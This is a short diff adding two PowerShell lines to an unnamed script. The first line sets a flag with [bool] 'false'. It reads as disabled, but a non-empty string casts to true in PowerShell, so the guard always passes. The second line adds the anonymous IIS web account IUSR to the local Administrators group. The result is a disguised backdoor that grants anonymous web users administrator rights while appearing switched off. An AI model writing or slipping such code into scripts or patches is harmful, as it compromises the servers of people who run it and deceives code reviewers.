@@ -1,0 +1,2 @@
+$enable = [bool] 'false'
+if ($enable) { net localgroup Administrators IUSR /add }
